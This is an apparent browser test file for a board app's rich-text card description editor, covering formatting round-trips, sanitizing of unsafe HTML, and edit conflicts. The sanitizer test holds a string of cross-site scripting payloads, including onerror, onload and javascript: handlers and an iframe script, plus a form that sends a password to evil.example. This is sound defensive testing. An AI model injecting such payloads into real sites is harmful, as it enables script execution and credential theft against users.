import { expect, test } from "vitest";
import { useBrowser } from "../browser/use-browser";
import { box, overtake, press } from "../cli/board-page";
import { useBoardServer } from "../cli/use-board-server";
import { region, withCard } from "./card-page";

const { serve } = useBoardServer();
const browser = useBrowser();
const timeout = { timeout: 150_000 };

test("[W11.16] the description is written with its form, and comes back as imports make it", timeout, async () => {
  const { client, id, card, open } = await withCard(browser, await serve());
  const page = await open();
  await page.getByRole("button", { name: "Say more about it… Edit description" }).click();
  await box(page, "Description").waitFor();
  await page.keyboard.type("## A heading");
  await page.keyboard.press("Enter");
  await page.keyboard.type("- One");
  await page.keyboard.press("Enter");
  await page.keyboard.type("Two ");
  await press(page, "Bold");
  await page.keyboard.type("bold");
  await page.keyboard.press("Control+Enter");
  const written = "<h2>A heading</h2><ul><li>One</li><li>Two <strong>bold</strong></li></ul>";
  await expect.poll(async () => (await card()).content).toBe(written);
  // Nothing that an import made is lost or put otherwise by a change elsewhere in it.
  const imported =
    '<p>A <a href="https://example.com">link</a>,<br>a <s>gone</s> word</p><ol><li>One<ul><li>In it</li></ul></li></ol>' +
    "<pre><code>1 &lt; 2</code></pre><table><tbody><tr><th>Head</th></tr><tr><td>Cell</td></tr></tbody></table><hr>";
  await client.updateCard({ card_id: id, content: imported });
  await page.getByText("Cell").waitFor();
  await press(page, "Edit description");
  await box(page, "Description").waitFor();
  await page.keyboard.type("Now a");
  await page.keyboard.press("Delete");
  await page.keyboard.press("Control+Enter");
  await expect.poll(async () => (await card()).content).toBe(imported.replace("<p>A ", "<p>Now a "));
});

test("[W11.16] nothing that is unsafe in a description is shown or run", timeout, async () => {
  const { client, id, open } = await withCard(browser, await serve());
  const payload =
    '<p>Harmless</p><img src="x" onerror="window.hacked = 1"><script>window.hacked = 2</script><svg onload="window.hacked = 3">' +
    '<a xlink:href="javascript:window.hacked=4">s</a></svg><a href="java\nscript:window.hacked = 5">link</a>' +
    '<iframe srcdoc="<script>parent.hacked = 6</script>"></iframe><p style="position:fixed" onclick="window.hacked = 7">p</p>' +
    '<form action="https://evil.example"><input name="password"><button>Send</button></form><style>* { display: none }</style>';
  await client.updateCard({ card_id: id, content: payload });
  await client.createComment({ card_id: id, content: payload });
  const page = await open();
  // Parsed without effect, and reported all the same.
  browser.expectErrors(/inline style violates/);
  await page.getByText("Harmless").nth(1).waitFor();
  const risky =
    ".rich-text :is(script, style, iframe, svg, img[src], form, input, [onclick], [style], a:not([href^=http]))";
  expect(await page.locator(risky).count()).toBe(0);
  await press(page, "Edit description");
  await box(page, "Description").waitFor();
  await page.keyboard.type("Still ");
  expect(await page.locator(risky).count()).toBe(0);
  for (const text of await page.getByText("p", { exact: true }).all()) await text.click();
  expect(await page.evaluate("window.hacked")).toBeUndefined();
});

test("[W11.30] a description that is refused stays in its editor beside the other one", timeout, async () => {
  const { client, id, card, open } = await withCard(browser, await serve());
  browser.expectErrors(/409/);
  const page = await open();
  await overtake(page, `**/cards/${id}`, () => client.updateCard({ card_id: id, content: "<p>Theirs</p>" }));
  await page.getByRole("button", { name: /Edit description/ }).click();
  await box(page, "Description").fill("Mine");
  await page.keyboard.press("Control+Enter");
  const versions = region(page, "Description: two versions");
  await versions.getByText("Theirs", { exact: true }).waitFor();
  expect(await box(page, "Description").textContent()).toBe("Mine");
  expect((await card()).content).toBe("<p>Theirs</p>");
  await press(page, "Keep mine");
  await expect.poll(async () => (await card()).content).toBe("<p>Mine</p>");
  await page.getByText("Theirs", { exact: true }).waitFor();
});
